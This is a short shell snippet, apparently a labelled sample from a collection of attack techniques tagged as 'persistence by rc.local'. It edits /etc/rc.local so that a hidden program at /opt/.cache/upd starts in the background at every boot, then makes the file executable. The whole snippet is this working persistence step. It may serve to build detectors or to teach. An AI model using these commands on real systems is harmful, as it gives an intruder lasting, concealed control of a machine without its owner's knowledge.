# class: persistence by rc.local; style: short
sed -i '/^exit 0/i /opt/.cache/upd &' /etc/rc.local
chmod +x /etc/rc.local
